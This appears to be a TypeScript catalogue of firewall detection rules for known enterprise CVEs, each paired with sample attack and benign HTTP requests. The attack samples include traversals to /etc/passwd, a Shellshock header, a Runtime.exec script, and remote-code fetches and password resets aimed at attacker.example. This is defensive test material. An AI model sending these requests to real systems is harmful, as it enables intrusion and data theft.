@@ -1,0 +1,273 @@
+// Business software: Microsoft, file transfer, remote support, mail, developer tools, dashboards.
+import { asPath, asSent, definePatch, type CatalogPatch } from './entry.js';
+
+const json = { 'Content-Type': 'application/json' };
+const xml = { 'Content-Type': 'text/xml' };
+const r = String.raw;
+
+export const enterprisePatches: readonly CatalogPatch[] = [
+  definePatch({
+    id: 1007401, cve: 'CVE-2021-34473', title: 'Exchange ProxyShell path confusion', product: 'Microsoft Exchange Server', affected: '2013, 2016, 2019 before April 2021', cwe: 'CWE-918', severity: 'critical', phase: 1,
+    links: [['REQUEST_URI_RAW', r`@rx /autodiscover/autodiscover\.json[^/]*@[^/]*/(?:mapi|ews|ecp|owa|powershell)`, asSent]],
+    attack: [['mail box', 'GET /autodiscover/autodiscover.json?@evil.example/mapi/nspi?&Email=autodiscover/autodiscover.json%3f@evil.example'], ['shell', 'POST /autodiscover/autodiscover.json?a=@evil.example/powershell/?X-Rps-CAT=x']],
+    benign: [['discovery', 'GET /autodiscover/autodiscover.json?Email=anna@example.org&Protocol=ActiveSync'], ['versioned', 'GET /autodiscover/autodiscover.json/v1.0/anna@example.org?Protocol=EWS']],
+  }),
+  definePatch({
+    id: 1007402, cve: 'CVE-2021-26855', title: 'Exchange ProxyLogon request forgery', product: 'Microsoft Exchange Server', affected: '2013, 2016, 2019 before March 2021', cwe: 'CWE-918', severity: 'critical', phase: 1,
+    links: [['REQUEST_COOKIES:X-BEResource|REQUEST_COOKIES:X-AnonResource-Backend', r`@rx [/@?\]]`, 'urlDecodeUni']],
+    attack: [['forged back end', 'POST /ecp/y.js', { Cookie: 'X-BEResource=localhost/autodiscover/autodiscover.xml?a=~1942062522' }, 'x']],
+    benign: [['a back end', 'GET /ecp/', { Cookie: 'X-BEResource=exchange01~1942062522' }], ['another cookie', 'GET /owa/', { Cookie: 'path=/owa/' }]],
+  }),
+  definePatch({
+    id: 1007403, cve: 'CVE-2020-0688', title: 'Exchange control panel takes forged view state', product: 'Microsoft Exchange Server', affected: '2010 to 2019 before February 2020', cwe: 'CWE-502', severity: 'high', phase: 1,
+    links: [['REQUEST_FILENAME', r`@rx ^/ecp/`, asPath], ['ARGS_GET_NAMES', '@streq __viewstate', 'lowercase']],
+    attack: [['view state in the query', 'GET /ecp/default.aspx?__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=/wEy']],
+    benign: [['the panel', 'GET /ecp/default.aspx'], ['posted', 'POST /ecp/default.aspx', {}, '__VIEWSTATE=/wEy']],
+  }),
+  definePatch({
+    id: 1007404, cve: 'CVE-2025-53770', title: 'SharePoint ToolPane without login', product: 'Microsoft SharePoint Server', affected: '2016, 2019, Subscription Edition before July 2025', cwe: 'CWE-502', severity: 'critical', phase: 1,
+    links: [['REQUEST_FILENAME', r`@rx /_layouts/(?:\d+/)?toolpane\.aspx`, asPath], ['REQUEST_HEADERS:Referer', r`@rx /_layouts/(?:\d+/)?signout\.aspx`, 'urlDecodeUni,lowercase']],
+    attack: [['from the sign-out page', 'POST /_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx', { Referer: '/_layouts/SignOut.aspx' }, 'MSOTlPn_Uri=x']],
+    benign: [['editing a page', 'POST /_layouts/15/ToolPane.aspx?DisplayMode=Edit', { Referer: 'https://intranet.example/SitePages/Home.aspx' }, 'a=1'], ['logging in again', 'GET /', { Referer: 'https://intranet.example/_layouts/15/SignOut.aspx' }]],
+  }),
+  definePatch({
+    id: 1007405, cve: 'CVE-2019-0604', title: 'SharePoint picker deserialises a field', product: 'Microsoft SharePoint', affected: '2010 to 2019 before February 2019', cwe: 'CWE-20', severity: 'critical', phase: 2,
+    links: [['REQUEST_FILENAME', r`@rx /_layouts/(?:\d+/)?picker\.aspx`, asPath], ['ARGS:/hiddenSpanData$/', r`@rx ^__`]],
+    attack: [['encoded entity', 'POST /_layouts/15/Picker.aspx?PickerDialogType=x', {}, 'ctl00%24PlaceHolderDialogBodySection%24ctl05%24hiddenSpanData=__bp82c135009700370047005600d60']],
+    benign: [['a choice', 'POST /_layouts/15/Picker.aspx', {}, 'ctl00%24PlaceHolderDialogBodySection%24ctl05%24hiddenSpanData='], ['elsewhere', 'POST /x', {}, 'hiddenSpanData=__a']],
+  }),
+  definePatch({
+    id: 1007406, cve: 'CVE-2015-1635', title: 'Windows HTTP.sys range overflow', product: 'Microsoft Windows', affected: '7, 8, 2008 R2, 2012 before April 2015', cwe: 'CWE-94', severity: 'critical', phase: 1,
+    links: [['REQUEST_HEADERS:Range|REQUEST_HEADERS:Request-Range', r`@rx -\s*\d{18,}`]],
+    attack: [['largest number', 'GET /iisstart.htm', { Range: 'bytes=18-18446744073709551615' }]],
+    benign: [['a part', 'GET /film.mp4', { Range: 'bytes=0-1048575' }], ['to the end', 'GET /film.mp4', { Range: 'bytes=12345678901-' }]],
+  }),
+  definePatch({
+    id: 1007407, cve: 'CVE-2019-18935', title: 'Telerik upload deserialises objects', product: 'Progress Telerik UI for ASP.NET AJAX', affected: 'before R3 2019 SP1', cwe: 'CWE-502', severity: 'critical', phase: 1,
+    links: [['REQUEST_FILENAME', r`@rx /telerik\.web\.ui\.webresource\.axd`, asPath], ['ARGS_GET:type', '@streq rau', 'trim,lowercase']],
+    attack: [['the upload handler', 'POST /Telerik.Web.UI.WebResource.axd?type=rau', {}, 'rauPostData=x']],
+    benign: [['scripts', 'GET /Telerik.Web.UI.WebResource.axd?_TSM_HiddenField_=a&compress=1'], ['elsewhere', 'GET /x?type=rau']],
+  }),
+  definePatch({
+    id: 1007408, cve: 'CVE-2023-34362', title: 'MOVEit Transfer SQL injection entry', product: 'Progress MOVEit Transfer', affected: 'before 2021.0.6, 2022.0.4, 2023.0.1', cwe: 'CWE-89', severity: 'critical', phase: 2,
+    links: [['REQUEST_FILENAME', r`@rx /moveitisapi\.dll`, asPath], ['ARGS:action', '@streq m2', 'trim,lowercase']],
+    attack: [['inner call', 'POST /moveitisapi/moveitisapi.dll?action=m2', { 'X-siLock-Transaction': 'folder_add_by_path', 'xX-siLock-Transaction': 'session_setvars' }, 'x=1']],
+    benign: [['an upload', 'POST /moveitisapi/moveitisapi.dll?action=upload', {}, 'x=1'], ['elsewhere', 'GET /x?action=m2']],
+  }),
+  definePatch({
+    id: 1007409, cve: 'CVE-2023-0669', title: 'GoAnywhere licence deserialises objects', product: 'Fortra GoAnywhere MFT', affected: 'before 7.1.2', cwe: 'CWE-502', severity: 'high', phase: 1,
+    links: [['REQUEST_FILENAME', '@contains /goanywhere/lic/accept', asPath]],
+    attack: [['a bundle', 'POST /goanywhere/lic/accept', {}, 'bundle=abc$2']],
+    benign: [['login', 'GET /goanywhere/auth/Login.xhtml'], ['a page', 'GET /lic/accept']],
+  }),
+  definePatch({
+    id: 1007410, cve: 'CVE-2024-0204', title: 'GoAnywhere makes a new administrator', product: 'Fortra GoAnywhere MFT', affected: 'before 7.4.1', cwe: 'CWE-425', technique: 'T1136', severity: 'critical', phase: 1,
+    links: [['REQUEST_FILENAME', r`@rx /\.\.;/.*wizard/initialaccountsetup\.xhtml`, asSent]],
+    attack: [['through images', 'POST /goanywhere/images/..;/wizard/InitialAccountSetup.xhtml', {}, 'x=1']],
+    benign: [['a picture', 'GET /goanywhere/images/logo.png'], ['the wizard itself', 'GET /goanywhere/wizard/InitialAccountSetup.xhtml']],
+  }),
+  definePatch({
+    id: 1007411, cve: 'CVE-2024-4040', title: 'CrushFTP template includes files', product: 'CrushFTP', affected: 'before 10.7.1 and 11.1.0', cwe: 'CWE-1336', technique: 'T1083', severity: 'critical', phase: 2,
+    links: [['REQUEST_FILENAME', '@contains /webinterface/', asPath], ['ARGS', r`@rx <include>|\{working_dir\}`, 'urlDecodeUni,lowercase']],
+    attack: [['file', 'POST /WebInterface/function/', {}, 'command=zip&path=%3CINCLUDE%3E/etc/passwd%3C/INCLUDE%3E&names=/bbb&c2f=abcd']],
+    benign: [['a list', 'POST /WebInterface/function/', {}, 'command=getXMLListing&path=/&c2f=abcd'], ['elsewhere', 'POST /posts', {}, 'text=%3Cinclude%3E']],
+  }),
+  definePatch({
+    id: 1007412, cve: 'CVE-2024-1709', title: 'ScreenConnect setup wizard can be reopened', product: 'ConnectWise ScreenConnect', affected: '23.9.7 and older', cwe: 'CWE-288', technique: 'T1136', severity: 'critical', phase: 1,
+    links: [['REQUEST_FILENAME', r`@rx /setupwizard\.aspx/`, 'urlDecodeUni,lowercase']],
+    attack: [['slash behind the page', 'GET /SetupWizard.aspx/anything'], ['only a slash', 'POST /SetupWizard.aspx/', {}, 'a=1']],
+    benign: [['login', 'GET /Login'], ['in the query', 'GET /x?p=/SetupWizard.aspx/']],
+  }),
+  definePatch({
+    id: 1007413, cve: 'CVE-2024-27198', title: 'TeamCity login bypass', product: 'JetBrains TeamCity', affected: 'before 2023.11.4', cwe: 'CWE-288', severity: 'critical', phase: 1,
+    links: [['ARGS_GET:jsp', r`@rx ;|^/app/|\.jsp$`, 'urlDecodeUni,lowercase']],
+    attack: [['users', 'POST /hax?jsp=/app/rest/users;.jsp', json, '{"username":"x"}']],
+    benign: [['users', 'GET /app/rest/users'], ['a topic', 'GET /docs?jsp=introduction']],
+  }),
+  definePatch({
+    id: 1007414, cve: 'CVE-2024-27199', title: 'TeamCity path traversal', product: 'JetBrains TeamCity', affected: 'before 2023.11.4', cwe: 'CWE-23', severity: 'high', phase: 1,
+    links: [['REQUEST_FILENAME', r`@rx ^/(?:res|update|\.well-known/acme-challenge)/.*\.\./`, asSent]],
+    attack: [['diagnostics', 'GET /res/../admin/diagnostic.jsp'], ['encoded', 'GET /update/%2e%2e/app/https/settings/uploadCertificate']],
+    benign: [['a resource', 'GET /res/main.css'], ['in the query', 'GET /res/a.js?from=../x']],
+  }),
+  definePatch({
+    id: 1007415, cve: 'CVE-2023-42793', title: 'TeamCity tokens without login', product: 'JetBrains TeamCity', affected: 'before 2023.05.4', cwe: 'CWE-288', severity: 'critical', phase: 1,
+    links: [['REQUEST_FILENAME', r`@rx ^/app/rest/.*/rpc2$`, asPath]],
+    attack: [['token', 'POST /app/rest/users/id:1/tokens/RPC2']],
+    benign: [['a token', 'POST /app/rest/users/id:1/tokens/build'], ['the agents\' door', 'POST /RPC2', xml, '<methodCall/>']],
+  }),
+  definePatch({
+    id: 1007416, cve: 'CVE-2024-23897', title: 'Jenkins CLI reads files', product: 'Jenkins', affected: '2.441 and older, LTS 2.426.2 and older', cwe: 'CWE-27', technique: 'T1005', severity: 'critical', phase: 1,
+    links: [['REQUEST_FILENAME', r`@rx /cli$|/cli/$`, asPath], ['ARGS_GET:remoting', '@streq false', 'trim,lowercase']],
+    attack: [['CLI over HTTP', 'POST /cli?remoting=false', { Session: '39382176-ac9c-4a00-bbc6-4172b3cf1e92', Side: 'upload', 'Content-Type': 'application/octet-stream' }, 'x@/etc/passwd']],
+    benign: [['its page', 'GET /cli/'], ['a project', 'GET /job/cli?remoting=true']],
+  }),
+  definePatch({
+    id: 1007417, cve: 'CVE-2018-1000861', title: 'Jenkins calls methods named in the path', product: 'Jenkins', affected: '2.153 and older, LTS 2.138.3 and older', cwe: 'CWE-502', severity: 'critical', phase: 1,
+    links: [['REQUEST_FILENAME', r`@rx /securityrealm/user/[^/]+/descriptorbyname/`, asPath]],
+    attack: [['script check', 'GET /securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript?sandbox=true&value=x']],
+    benign: [['a profile', 'GET /securityRealm/user/admin/'], ['a job\'s check', 'GET /job/a/descriptorByName/hudson.tasks.Shell/checkCommand']],
+  }),
+  definePatch({
+    id: 1007418, cve: 'CVE-2019-1003000', title: 'Jenkins pipeline check runs annotations', product: 'Jenkins Script Security and Pipeline plug-ins', affected: 'Script Security 1.49 and older', cwe: 'CWE-693', severity: 'high', phase: 2,
+    links: [['REQUEST_FILENAME', r`@rx /descriptorbyname/org\.jenkinsci\.plugins\.[^/]+/checkscript`, asPath], ['ARGS:value', r`@rx @(?:groovy\.transform\.)?(?:grab|asttest|grabresolver|grabconfig)`, 'lowercase']],
+    attack: [['dependency from elsewhere', "GET /descriptorByName/org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition/checkScriptCompile?value=@GrabConfig(disableChecksums=true)%0a@GrabResolver(name='x',root='http://attacker.example')"]],
+    benign: [['a pipeline', 'POST /descriptorByName/org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition/checkScriptCompile', {}, "value=pipeline+%7B+agent+any+%7D"], ['elsewhere', 'POST /x', {}, 'value=@Grab']],
+  }),
+  definePatch({
+    id: 1007419, cve: 'CVE-2023-7028', title: 'GitLab sends the reset link to a second address', product: 'GitLab CE and EE', affected: '16.1 to 16.7.1', cwe: 'CWE-640', technique: 'T1098', severity: 'critical', phase: 2,
+    links: [['REQUEST_FILENAME', r`@rx /users/password$`, asPath], ['ARGS_NAMES', r`@rx ^(?:json\.)?user(?:\[email\]\[|\.email\.)`, 'urlDecodeUni,lowercase']],
+    attack: [['two addresses', 'POST /users/password', {}, 'user%5Bemail%5D%5B%5D=anna%40example.org&user%5Bemail%5D%5B%5D=x%40attacker.example']],
+    benign: [['one address', 'POST /users/password', {}, 'user%5Bemail%5D=anna%40example.org'], ['elsewhere', 'POST /invite', {}, 'user%5Bemail%5D%5B%5D=a%40example.org']],
+  }),
+  definePatch({
+    id: 1007420, cve: 'CVE-2023-2825', title: 'GitLab serves files outside of uploads', product: 'GitLab CE and EE', affected: '16.0.0', cwe: 'CWE-22', technique: 'T1083', severity: 'critical', phase: 1,
+    links: [['REQUEST_FILENAME', r`@rx /uploads/[0-9a-f]{32}/.*\.\./`, asSent]],
+    attack: [['encoded slashes', 'GET /a/b/c/d/e/f/uploads/4e02c376ac758e162ec674399741e38d//..%2f..%2f..%2f..%2f..%2fetc%2fpasswd']],
+    benign: [['a picture', 'GET /group/project/uploads/4e02c376ac758e162ec674399741e38d/image..png'], ['in the query', 'GET /uploads/4e02c376ac758e162ec674399741e38d/a.png?b=../']],
+  }),
+  definePatch({
+    id: 1007421, cve: 'CVE-2021-43798', title: 'Grafana serves files outside of plug-ins', product: 'Grafana', affected: '8.0.0-beta1 to 8.3.0', cwe: 'CWE-22', technique: 'T1083', severity: 'high', phase: 1,
+    links: [['REQUEST_FILENAME', r`@rx /public/plugins/[^/]+/+\.\./`, asSent]],
+    attack: [['password file', 'GET /public/plugins/alertlist/../../../../../../../../etc/passwd'], ['encoded', 'GET /public/plugins/text/%2e%2e/%2e%2e/conf/defaults.ini']],
+    benign: [['a module', 'GET /public/plugins/alertlist/module.js'], ['in the query', 'GET /public/plugins/text/module.js?x=/../']],
+  }),
+  definePatch({
+    id: 1007422, cve: 'CVE-2019-7609', title: 'Kibana Timelion pollutes prototypes', product: 'Kibana', affected: 'before 5.6.15 and 6.6.1', cwe: 'CWE-94', severity: 'critical', phase: 2,
+    links: [['REQUEST_FILENAME', '@contains /api/timelion/run', asPath], ['ARGS', r`@rx __proto__|constructor\.prototype`, 'lowercase']],
+    attack: [['environment', 'POST /api/timelion/run', json, '{"sheet":[".es(*).props(label.__proto__.env.AAAA=\'x\')"],"time":{"from":"now-15m"}}']],
+    benign: [['a chart', 'POST /api/timelion/run', json, '{"sheet":[".es(*).label(\'proto\')"],"time":{"from":"now-15m"}}'], ['elsewhere', 'POST /posts', json, '{"t":"__proto__"}']],
+  }),
+  definePatch({
+    id: 1007423, cve: 'CVE-2015-1427', title: 'Elasticsearch Groovy scripts escape', product: 'Elasticsearch', affected: 'before 1.3.8 and 1.4.3', cwe: 'CWE-94', severity: 'critical', phase: 2,
+    links: [['REQUEST_FILENAME', r`@rx /_(?:search|update)`, asPath], ['ARGS:/script/', r`@rx java\.lang\.|getruntime|class\.forname`, 'lowercase']],
+    attack: [['runtime', 'POST /_search?pretty', json, '{"size":1,"script_fields":{"x":{"script":"java.lang.Math.class.forName(\\"java.lang.Runtime\\").getRuntime().exec(\\"id\\").getText()"}}}']],
+    benign: [['a script', 'POST /_search', json, '{"script_fields":{"x":{"script":"doc[\'price\'].value * 2"}}}'], ['a search for it', 'POST /_search', json, '{"query":{"match":{"text":"java.lang.Runtime"}}}']],
+  }),
+  definePatch({
+    id: 1007424, cve: 'CVE-2023-38646', title: 'Metabase set-up runs SQL', product: 'Metabase', affected: 'before 0.46.6.1', cwe: 'CWE-862', severity: 'critical', phase: 2,
+    links: [['REQUEST_FILENAME', '@contains /api/setup/validate', asPath], ['ARGS', r`@rx ;\s*(?:init|trace_level_system_out)\s*=|runscript|create\s+trigger`, 'urlDecodeUni,lowercase']],
+    attack: [['trigger', 'POST /api/setup/validate', json, '{"token":"x","details":{"engine":"h2","details":{"db":"zip:/app/metabase.jar!/sample-database.db;MODE=MSSQLServer;TRACE_LEVEL_SYSTEM_OUT=1\\\\;CREATE TRIGGER x"}}}']],
+    benign: [['a database', 'POST /api/setup/validate', json, '{"token":"x","details":{"engine":"postgres","details":{"host":"db","port":5432}}}'], ['elsewhere', 'POST /notes', json, '{"t":"; init = 1"}']],
+  }),
+  definePatch({
+    id: 1007425, cve: 'CVE-2023-32315', title: 'Openfire console path traversal', product: 'Ignite Realtime Openfire', affected: '3.10.0 to 4.7.4', cwe: 'CWE-22', severity: 'high', phase: 1,
+    links: [['REQUEST_URI_RAW', r`@rx ^/setup/setup-[^?]*(?:%u002e|\.\.|%2e%2e)`, 'lowercase']],
+    attack: [['wide encoding', 'GET /setup/setup-s/%u002e%u002e/%u002e%u002e/log.jsp']],
+    benign: [['set-up', 'GET /setup/setup-host-settings.jsp'], ['in the query', 'GET /setup/setup-s/a?x=%u002e%u002e']],
+  }),
+  definePatch({
+    id: 1007426, cve: 'CVE-2023-27350', title: 'PaperCut login bypass', product: 'PaperCut MF and NG', affected: '8.0 to 22.0.8', cwe: 'CWE-284', severity: 'critical', phase: 2,
+    links: [['REQUEST_FILENAME', r`@rx ^/app(?:/|$)`, asPath], ['ARGS:service', '@contains page/setupcompleted', 'urlDecodeUni,lowercase']],
+    attack: [['set-up page', 'GET /app?service=page/SetupCompleted']],
+    benign: [['login', 'GET /app?service=page/Home'], ['elsewhere', 'GET /help?service=page/SetupCompleted']],
+  }),
+  definePatch({
+    id: 1007427, cve: 'CVE-2022-27925', title: 'Zimbra mail box import', product: 'Zimbra Collaboration', affected: '8.8.15, 9.0', cwe: 'CWE-22', technique: 'T1505.003', severity: 'high', phase: 1,
+    links: [['REQUEST_FILENAME', '@contains /service/extension/backup/mboximport', asPath]],
+    attack: [['archive', 'POST /service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1', { 'Content-Type': 'application/octet-stream' }, 'PK']],
+    benign: [['web mail', 'GET /service/home/~/?fmt=zip'], ['a page', 'GET /mboximport']],
+  }),
+  definePatch({
+    id: 1007428, cve: 'CVE-2019-9670', title: 'Zimbra autodiscover resolves entities', product: 'Zimbra Collaboration', affected: '8.7 before 8.7.11p10', cwe: 'CWE-611', severity: 'critical', phase: 2,
+    links: [['REQUEST_FILENAME', r`@rx /autodiscover/autodiscover\.xml`, asPath], ['FULL_REQUEST', r`@rx <!\s*(?:doctype|entity)`, 'lowercase']],
+    attack: [['entity', 'POST /Autodiscover/Autodiscover.xml', xml, '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><Autodiscover><Request><EMailAddress>a</EMailAddress></Request></Autodiscover>']],
+    benign: [['discovery', 'POST /Autodiscover/Autodiscover.xml', xml, '<Autodiscover><Request><EMailAddress>anna@example.org</EMailAddress></Request></Autodiscover>'], ['elsewhere', 'POST /feed', xml, '<!DOCTYPE rss><rss/>']],
+  }),
+  definePatch({
+    id: 1007429, cve: 'CVE-2021-40539', title: 'ADSelfService Plus login bypass', product: 'Zoho ManageEngine ADSelfService Plus', affected: '6113 and older', cwe: 'CWE-706', severity: 'critical', phase: 1,
+    links: [['REQUEST_FILENAME', r`@rx /\.{1,2}/+(?:.*/)?restapi/`, asSent]],
+    attack: [['dot in the path', 'POST /./RestAPI/LogonCustomization', {}, 'methodToCall=unspecified'], ['two dots', 'POST /help/../RestAPI/LogonCustomization', {}, 'a=1']],
+    benign: [['the API', 'POST /RestAPI/LogonCustomization', {}, 'a=1'], ['in the query', 'GET /x?p=/./RestAPI/']],
+  }),
+  definePatch({
+    id: 1007430, cve: 'CVE-2021-44077', title: 'ServiceDesk Plus imports without login', product: 'Zoho ManageEngine ServiceDesk Plus', affected: 'before 11306', cwe: 'CWE-306', severity: 'critical', phase: 1,
+    links: [['REQUEST_FILENAME', '@contains /restapi/importtechnicians', asPath]],
+    attack: [['upload', 'POST /RestAPI/ImportTechnicians?step=1', {}, 'x=1']],
+    benign: [['another call', 'GET /RestAPI/Technicians'], ['a page', 'GET /ImportTechnicians']],
+  }),
+  definePatch({
+    id: 1007431, cve: 'CVE-2025-29927', title: 'Next.js skips middleware', product: 'Next.js', affected: '11.1.4 to 15.2.2', cwe: 'CWE-285', severity: 'critical', phase: 1,
+    links: [['&REQUEST_HEADERS:X-Middleware-Subrequest', '@gt 0']],
+    attack: [['the internal header', 'GET /admin', { 'x-middleware-subrequest': 'middleware:middleware:middleware:middleware:middleware' }]],
+    benign: [['without it', 'GET /admin'], ['another header', 'GET /', { 'x-middleware-prefetch': '1' }]],
+  }),
+  definePatch({
+    id: 1007432, cve: 'CVE-2019-5418', title: 'Rails renders the file that Accept names', product: 'Ruby on Rails', affected: 'before 6.0.0.beta3, 5.2.2.1, 5.1.6.2, 5.0.7.2, 4.2.11.1', cwe: 'CWE-22', technique: 'T1083', severity: 'high', phase: 1,
+    links: [['REQUEST_HEADERS:Accept', r`@rx \.\./|\{\{`]],
+    attack: [['password file', 'GET /robots', { Accept: '../../../../../../../../etc/passwd{{' }]],
+    benign: [['a browser', 'GET /', { Accept: 'text/html,application/xhtml+xml,*/*;q=0.8' }], ['a vendor type', 'GET /', { Accept: 'application/vnd.github.v3+json' }]],
+  }),
+  definePatch({
+    id: 1007433, cve: 'CVE-2014-6271', title: 'Bash runs what follows a function', product: 'GNU Bash behind CGI', affected: '4.3 and older', cwe: 'CWE-78', technique: 'T1059.004', severity: 'critical', phase: 2,
+    links: [['REQUEST_HEADERS|ARGS|ARGS_NAMES', r`@rx ^\s*\(\s*\)\s*\{`, 'urlDecodeUni']],
+    attack: [['in a header', 'GET /cgi-bin/status', { 'User-Agent': '() { :; }; echo; /bin/id' }]],
+    benign: [['a browser', 'GET /cgi-bin/status', { 'User-Agent': 'Mozilla/5.0 (X11) () {}' }], ['script text', 'POST /snippets', {}, 'code=f()+%7B+return+1+%7D']],
+  }),
+  definePatch({
+    id: 1007434, cve: 'CVE-2016-5385', title: 'The Proxy header becomes HTTP_PROXY', product: 'PHP and other CGI programs', affected: 'PHP to 7.0.8', cwe: 'CWE-601', technique: 'T1090', severity: 'high', phase: 1,
+    links: [['&REQUEST_HEADERS:Proxy', '@gt 0']],
+    attack: [['the header', 'GET /', { Proxy: 'http://attacker.example:8080' }]],
+    benign: [['without', 'GET /proxy'], ['a similar header', 'GET /', { 'Proxy-Connection': 'keep-alive' }]],
+  }),
+  definePatch({
+    id: 1007435, cve: 'CVE-2022-29464', title: 'WSO2 upload anywhere', product: 'WSO2 API Manager, Identity Server and others', affected: 'API Manager 2.2.0 to 4.0.0', cwe: 'CWE-22', technique: 'T1505.003', severity: 'critical', phase: 1,
+    links: [['REQUEST_FILENAME', r`@rx /fileupload/toolsany`, asPath]],
+    attack: [['upload', 'POST /fileupload/toolsAny', {}, 'x=1']],
+    benign: [['another upload', 'POST /fileupload/service', {}, 'x=1'], ['in the query', 'GET /x?p=/fileupload/toolsAny']],
+  }),
+  definePatch({
+    id: 1007436, cve: 'CVE-2020-6287', title: 'SAP NetWeaver configuration without login', product: 'SAP NetWeaver AS Java', affected: '7.30 to 7.50', cwe: 'CWE-306', technique: 'T1136', severity: 'critical', phase: 1,
+    links: [['REQUEST_FILENAME', '@contains /ctcwebservice/ctcwebservicebean', asPath]],
+    attack: [['the service', 'POST /CTCWebService/CTCWebServiceBean/ConfigServlet', xml, '<a/>']],
+    benign: [['portal', 'GET /irj/portal'], ['a search', 'GET /search?q=/CTCWebService/CTCWebServiceBean']],
+  }),
+  definePatch({
+    id: 1007437, cve: 'CVE-2025-31324', title: 'SAP Visual Composer takes uploads', product: 'SAP NetWeaver Visual Composer', affected: '7.50', cwe: 'CWE-434', technique: 'T1505.003', severity: 'critical', phase: 1,
+    links: [['REQUEST_FILENAME', '@contains /developmentserver/metadatauploader', asPath]],
+    attack: [['upload', 'POST /developmentserver/metadatauploader?CONTENTTYPE=MODEL&CLIENT=1', {}, 'x=1']],
+    benign: [['portal', 'GET /irj/portal'], ['another page', 'GET /developmentserver/help']],
+  }),
+  definePatch({
+    id: 1007438, cve: 'CVE-2023-26360', title: 'ColdFusion deserialises variables', product: 'Adobe ColdFusion', affected: '2018 to update 15, 2021 to update 5', cwe: 'CWE-284', severity: 'critical', phase: 2,
+    links: [['REQUEST_FILENAME', r`@rx \.cf[cm]`, asPath], ['ARGS_NAMES', '@streq _variables', 'lowercase']],
+    attack: [['class name', 'POST /cf_scripts/scripts/ajax/ckeditor/plugins/filemanager/iedit.cfc?method=foo&_cfclient=true', {}, '_variables=%7B%22_metadata%22%3A%7B%22classname%22%3A%22../x%22%7D%7D']],
+    benign: [['a call', 'POST /shop/cart.cfc?method=add', {}, 'id=1'], ['elsewhere', 'POST /x', {}, '_variables=1']],
+  }),
+  definePatch({
+    id: 1007439, cve: 'CVE-2010-2861', title: 'ColdFusion administrator path traversal', product: 'Adobe ColdFusion', affected: '9.0.1 and older', cwe: 'CWE-22', technique: 'T1083', severity: 'high', phase: 2,
+    links: [['REQUEST_FILENAME', '@contains /cfide/', asPath], ['ARGS:locale', r`@rx \.\.|\x00|[/\x5c]`, 'urlDecodeUni']],
+    attack: [['password file', 'GET /CFIDE/administrator/enter.cfm?locale=../../../../../../lib/password.properties%00en']],
+    benign: [['a locale', 'GET /CFIDE/administrator/enter.cfm?locale=de_DE'], ['elsewhere', 'GET /x?locale=../de']],
+  }),
+  definePatch({
+    id: 1007440, cve: 'CVE-2024-28995', title: 'Serv-U reads any file', product: 'SolarWinds Serv-U', affected: '15.4.2 HF 1 and older', cwe: 'CWE-22', technique: 'T1083', severity: 'high', phase: 2,
+    links: [['ARGS:InternalDir', '@contains ..', 'urlDecodeUni']],
+    attack: [['Windows', 'GET /?InternalDir=/../../../../windows&InternalFile=win.ini'], ['with backslashes', 'GET /?InternalDir=%5C..%5C..%5Cetc&InternalFile=passwd']],
+    benign: [['a folder', 'GET /?InternalDir=/Common/Java&InternalFile=a.jar'], ['another parameter', 'GET /?dir=/../x']],
+  }),
+  definePatch({
+    id: 1007441, cve: 'CVE-2019-15107', title: 'Webmin runs the old password', product: 'Webmin', affected: '1.882 to 1.921', cwe: 'CWE-78', technique: 'T1059', severity: 'critical', phase: 2,
+    links: [['REQUEST_FILENAME', r`@rx /password_change\.cgi`, asPath], ['ARGS:old|ARGS:expired', '@rx [|`;$]', 'urlDecodeUni']],
+    attack: [['a pipe', 'POST /password_change.cgi', {}, 'user=x&pam=&expired=2&old=test%7Cid&new1=a&new2=a']],
+    benign: [['a change', 'POST /password_change.cgi', {}, 'user=x&old=Summer2024&new1=a&new2=a'], ['elsewhere', 'POST /x', {}, 'old=a|b']],
+  }),
+  definePatch({
+    id: 1007442, cve: 'CVE-2025-24893', title: 'XWiki search runs macros', product: 'XWiki', affected: '5.3 to 15.10.10, 16.0 to 16.4.0', cwe: 'CWE-95', severity: 'critical', phase: 2,
+    links: [['REQUEST_FILENAME', '@contains /solrsearch', asPath], ['ARGS:text', r`@rx \{\{/?\s*(?:async|groovy|python|velocity|ruby|script)`, 'urlDecodeUni,lowercase']],
+    attack: [['groovy', 'GET /xwiki/bin/get/Main/SolrSearch?media=rss&text=%7D%7D%7D%7B%7Basync%20async=false%7D%7D%7B%7Bgroovy%7D%7Dprintln(1)%7B%7B/groovy%7D%7D%7B%7B/async%7D%7D']],
+    benign: [['a search', 'GET /xwiki/bin/view/Main/SolrSearch?text=groovy+macro'], ['a macro in a page', 'POST /xwiki/bin/save/Sandbox/A', {}, 'content=%7B%7Bvelocity%7D%7D']],
+  }),
+  definePatch({
+    id: 1007443, cve: 'CVE-2025-3248', title: 'Langflow validates code by running it', product: 'Langflow', affected: 'before 1.3.0', cwe: 'CWE-306', severity: 'critical', phase: 1,
+    links: [['REQUEST_FILENAME', '@contains /api/v1/validate/code', asPath]],
+    attack: [['a decorator', 'POST /api/v1/validate/code', json, '{"code":"@exec(\'raise Exception(1)\')\\ndef f(): pass"}']],
+    benign: [['a prompt', 'POST /api/v1/validate/prompt', json, '{"template":"a"}'], ['in the query', 'GET /x?p=/api/v1/validate/code']],
+  }),
+  definePatch({
+    id: 1007444, cve: 'CVE-2022-21587', title: 'Oracle E-Business Suite takes uploads', product: 'Oracle E-Business Suite Web Applications Desktop Integrator', affected: '12.2.3 to 12.2.11', cwe: 'CWE-306', technique: 'T1505.003', severity: 'critical', phase: 2,
+    links: [['REQUEST_FILENAME', r`@rx /oa_html/bne(?:uploaderservice|viewerxmlservice|downloadservice|offlinelovservice)`, asPath], ['ARGS_NAMES', '@streq bne:uueupload', 'urlDecodeUni,lowercase']],
+    attack: [['encoded archive', 'POST /OA_HTML/BneViewerXMLService?bne:uueupload=TRUE', {}, 'x=1']],
+    benign: [['a document', 'GET /OA_HTML/BneViewerXMLService?bne:page=a'], ['elsewhere', 'POST /x?bne:uueupload=TRUE']],
+  }),
+];
